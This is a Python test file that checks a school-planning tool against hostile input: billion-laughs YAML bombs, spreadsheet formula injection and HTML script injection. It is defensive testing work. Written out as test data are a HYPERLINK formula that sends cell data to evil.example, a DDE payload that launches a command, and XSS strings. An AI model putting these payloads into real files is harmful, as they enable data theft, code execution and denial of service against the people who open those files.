"""A workshop loads a scenario folder, a result or a district bar that someone else made. None of them may
take the machine's memory, and nothing in them may become a live formula in the workbook or markup in the
report that the school then opens."""

from __future__ import annotations

import re
import resource
import shutil
import subprocess
import sys
import zipfile
from html.parser import HTMLParser
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from typer.testing import CliRunner

from workbench.cli import app
from workbench.results.io import read_result

ROOT = Path(__file__).resolve().parents[2]
TUTORIAL = ROOT / "scenarios" / "tutorial"
EXPORT_NUMBERS = ROOT / "tests" / "data" / "field-cases" / "export-numbers"
runner = CliRunner()

LAUGHS = "".join(f"lol{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9) if i else ', '.join(['lol'] * 9)}]\n"
                 for i in range(9))
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click for your grades")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"


def run_limited(*args: str, memory_gb: float = 2.0) -> subprocess.CompletedProcess:
    """`workbench ...` in a process that may use at most `memory_gb` of address space: before the fix the
    billion laughs took it all; a regression must fail this test, not the machine."""
    limit = int(memory_gb * 2**30)

    def cap() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (limit, limit))

    return subprocess.run([sys.executable, "-m", "workbench.cli", *args], capture_output=True, text=True,
                          timeout=300, preexec_fn=cap)


def school_with_settings(tmp_path: Path, extra: str) -> Path:
    school = tmp_path / "school"
    shutil.copytree(TUTORIAL, school)
    with open(school / "scenario.yaml", "a", encoding="utf-8") as f:
        f.write(extra)
    return school


# ---- YAML ---------------------------------------------------------------------------------------------------

def test_a_billion_laughs_scenario_is_refused_in_one_line_naming_the_line(tmp_path):
    school = school_with_settings(tmp_path, LAUGHS)
    assert (school / "scenario.yaml").stat().st_size < 2000                    # 1.4 KB of aliases
    done = run_limited("validate", str(school))
    assert done.returncode == 1, done.stderr[-500:]
    first = done.stderr.splitlines()[0]
    line = next(i for i, text in enumerate((school / "scenario.yaml").read_text().splitlines(), 1)
                if text.startswith("lol5"))
    assert first.startswith(f"scenario.yaml:{line}: ") and "aliases" in first, done.stderr
    assert "Traceback" not in done.stderr


def test_a_billion_laughs_district_bar_is_refused(tmp_path, ):
    bar = tmp_path / "bar.yaml"
    bar.write_text(LAUGHS)
    code = ("from workbench.goals.review import load_bar\nfrom workbench.errors import ScenarioInvalid\n"
            f"try:\n    load_bar({str(bar)!r})\nexcept ScenarioInvalid as exc:\n    print(exc)\n")
    limit = 2 * 2**30
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=300,
                          preexec_fn=lambda: resource.setrlimit(resource.RLIMIT_AS, (limit, limit)))
    # the bar is named as the reviewer gave it, like every other problem in a bar file
    assert done.returncode == 0 and done.stdout.startswith(f"{bar}:6: "), done.stdout + done.stderr[-500:]


@pytest.mark.parametrize("extra, said", [
    ("loop: &x [1, *x]\n", "refers to the value it is part of"),
    ("deep: " + "[" * 3000 + "]" * 3000 + "\n", "nested too deeply"),
    ("# " + "x" * 1_100_000 + "\n", "at most 1 MB"),
])
def test_self_referring_deep_or_huge_settings_get_one_plain_line(tmp_path, extra, said):
    done = run_limited("validate", str(school_with_settings(tmp_path, extra)))
    assert done.returncode == 1
    assert done.stderr.startswith("scenario.yaml") and said in done.stderr.splitlines()[0], done.stderr[-500:]
    assert "Traceback" not in done.stderr


def test_a_small_alias_is_still_fine(tmp_path):
    school = school_with_settings(tmp_path, "reviewers: &people [Ana, Ben]\nsigned_off_by: *people\n")
    done = runner.invoke(app, ["validate", str(school)])
    assert done.exit_code == 0, done.output


# ---- the workbook ---------------------------------------------------------------------------------------------

def formulas_in(book: Path) -> int:
    with zipfile.ZipFile(book) as z:
        return sum(len(re.findall(rb"<f[ >]", z.read(n))) for n in z.namelist() if n.startswith("xl/worksheets/"))


def cells(book: Path, sheet: str, column: str) -> list[openpyxl.cell.Cell]:
    ws = openpyxl.load_workbook(book)[sheet]
    header = [c.value for c in ws[1]]
    return [row[header.index(column)] for row in ws.iter_rows(min_row=2)]


HOSTILE_IDS = {"S0001": HYPERLINK, "S0002": DDE, "S0003": "-2+3", "S0004": "+1+1"}


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> Path:
    """A result shared by someone else and edited by hand: the tutorial, solved for real, with student IDs
    turned into spreadsheet formulas in every table (a scenario holding them is refused by validate)."""
    result = tmp_path_factory.mktemp("hostile") / "result"
    done = runner.invoke(app, ["solve", str(TUTORIAL), "--out", str(result)])
    assert done.exit_code == 0, done.output
    for csv in result.glob("*.csv"):
        table = pd.read_csv(csv, dtype=str, keep_default_na=False)
        for column in table.columns:
            table[column] = table[column].replace(HOSTILE_IDS)
            if column in ("explanation", "reason"):
                table[column] = table[column].str.replace("S0001", HYPERLINK, regex=False)
        table.to_csv(csv, index=False)
    return result


def test_a_scenario_whose_text_begins_like_a_formula_is_refused_in_one_line_per_table_and_column(tmp_path):
    school = tmp_path / "school"
    shutil.copytree(TUTORIAL, school)
    for name in ("students.csv", "requests.csv", "goals.csv"):
        table = pd.read_csv(school / name, dtype=str, keep_default_na=False)
        table["student_id"] = table["student_id"].replace(HOSTILE_IDS)
        table.to_csv(school / name, index=False)
    courses = pd.read_csv(school / "courses.csv", dtype=str, keep_default_na=False)
    courses.loc[0, "title"] = "=1+1"
    courses.to_csv(school / "courses.csv", index=False)
    done = runner.invoke(app, ["validate", str(school)])
    assert done.exit_code == 1
    lines = [line for line in done.output.splitlines() if "begins like a spreadsheet formula" in line]
    assert {line.split(":")[0] for line in lines} == {"students.csv", "requests.csv", "goals.csv", "courses.csv"}
    assert any(line.startswith("students.csv:2:student_id:") for line in lines), lines
    assert "Traceback" not in done.output
    assert runner.invoke(app, ["solve", str(school), "--out", str(tmp_path / "out")]).exit_code == 1
    assert not (tmp_path / "out").exists()


def test_formulas_in_student_ids_reach_the_workbook_as_text(hostile, tmp_path):
    book = tmp_path / "design.xlsx"
    assert runner.invoke(app, ["export", str(hostile), "--xlsx", str(book)]).exit_code == 0
    assert formulas_in(book) == 0                    # was: =HYPERLINK(...) a live formula on six sheets
    for sheet in ("Enrollments", "Student goals", "Student revenue", "Per student cost"):
        ids = {c.value: c for c in cells(book, sheet, "Student ID")}
        for hostile_id in (HYPERLINK, DDE, "-2+3", "+1+1"):
            if sheet == "Enrollments" or hostile_id in ids:
                cell = ids[hostile_id]
                assert cell.data_type == "s" and cell.quotePrefix, (sheet, hostile_id)
    explanations = [c.value for c in cells(book, "Student revenue", "Explanation")]
    assert any(text.startswith(HYPERLINK) for text in explanations)


def test_the_result_csvs_keep_ids_exactly_as_the_school_wrote_them(hostile):
    """Decision: the result CSVs are the program's own data, read back by check, compare and review, so
    IDs are not defused there (a defused ID would no longer match the scenario). No solve can write such an
    ID (validate refuses the scenario); a hand-edited result can hold one, and the workbook defuses it."""
    ids = set(read_result(hostile).enrollments["student_id"])
    assert {HYPERLINK, DDE, "-2+3", "+1+1"} <= ids


def test_numbers_stay_numbers_and_ids_stay_text_in_the_workbook(tmp_path):
    """Field case export-numbers: IDs 0001..0012; a course, a class-size and a tutoring goal."""
    school = tmp_path / "school"
    shutil.copytree(EXPORT_NUMBERS, school)
    with open(school / "goals.csv", "a", encoding="utf-8") as f:
        f.write("0002,max_class_size,25,\n0003,tutoring_minutes,90,math\n")
    assert runner.invoke(app, ["solve", str(school), "--out", str(tmp_path / "result")]).exit_code == 0
    book = tmp_path / "result.xlsx"
    assert runner.invoke(app, ["export", str(tmp_path / "result"), "--xlsx", str(book)]).exit_code == 0
    result = read_result(tmp_path / "result")
    for sheet in ("Enrollments", "Student goals", "Per student cost", "Student revenue"):
        ids = cells(book, sheet, "Student ID")
        assert all(c.data_type == "s" for c in ids) and "0001" in {c.value for c in ids}, sheet
    numeric = {"Per student cost": ["Staff share", "Supports", "Total", "Revenue"],
               "Student revenue": ["Grade", "Grade weight", "Need weight", "Amount"],
               "Three year": ["Year", "Revenue", "Expenses", "Balance"], "Budget": ["Amount"],
               "Staffing": ["Annual cost", "FTE"], "Summary": []}
    for sheet, columns in numeric.items():
        for column in columns:
            values = [c.value for c in cells(book, sheet, column)]
            assert values and all(isinstance(v, int | float) for v in values), (sheet, column, values)
    total = sum(c.value for c in cells(book, "Per student cost", "Total"))
    assert total == pytest.approx(pd.to_numeric(result.extra["per_student_cost"]["total"]).sum())
    targets = {c.value for c in cells(book, "Student goals", "Target")}
    assert {"SCI6", 25, 90} <= targets
    measures = dict(zip([c.value for c in cells(book, "Summary", "Measure")],
                        [c.value for c in cells(book, "Summary", "Value")], strict=True))
    assert isinstance(measures["Requests placed"], int | float)


# ---- the report -----------------------------------------------------------------------------------------------

class Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict]] = []

    def handle_starttag(self, tag, attrs) -> None:
        self.tags.append((tag, dict(attrs)))


def test_markup_in_a_shared_result_is_shown_not_run_in_the_report(hostile, tmp_path):
    clean = tmp_path / "clean.html"
    assert runner.invoke(app, ["export", str(hostile), "--html", str(clean)]).exit_code == 0
    tampered = tmp_path / "tampered"
    shutil.copytree(hostile, tampered)
    goals = pd.read_csv(tampered / "student_goals.csv", dtype=str, keep_default_na=False)
    goals.loc[0, "goal"] = "</script><script>alert('goal')</script>"
    goals.loc[1, ["met", "reason"]] = ["0", "<img src=x onerror=alert('reason')>"]
    goals.to_csv(tampered / "student_goals.csv", index=False)
    summary = (tampered / "summary.json").read_text().replace('"scenario": "', '"scenario": "<iframe srcdoc=x>')
    (tampered / "summary.json").write_text(summary)
    page = tmp_path / "tampered.html"
    assert runner.invoke(app, ["export", str(tampered), "--html", str(page)]).exit_code == 0
    seen, expected = Tags(), Tags()
    seen.feed(page.read_text())
    expected.feed(clean.read_text())
    kinds = {tag for tag, _ in seen.tags}
    assert not kinds & {"img", "iframe"}                       # was: the goal name ended the chart's <script>
    assert [t for t, _ in seen.tags].count("script") == [t for t, _ in expected.tags].count("script")
    assert not any(name.startswith("on") for _, attrs in seen.tags for name in attrs)
    assert "&lt;img src=x onerror=alert('reason')&gt;" in page.read_text()     # shown as text


def test_a_report_csv_for_people_never_holds_a_live_formula(tmp_path):
    """compare --csv and review --csv are opened in spreadsheets: text that starts a formula stays text."""
    import pandas as pd

    from workbench.atomic import write_report_csv

    frame = pd.DataFrame({"student_id": ['=HYPERLINK("http://evil.example","x")', "S01", "@SUM(A1)", "-2+3"],
                          "goals_met": [1, 2, -3, 0]})
    back = pd.read_csv(write_report_csv(frame, tmp_path / "report.csv"), dtype=str)
    assert list(back["student_id"]) == ['\'=HYPERLINK("http://evil.example","x")', "S01", "'@SUM(A1)", "'-2+3"]
    assert list(back["goals_met"]) == ["1", "2", "-3", "0"], "numbers stay numbers"
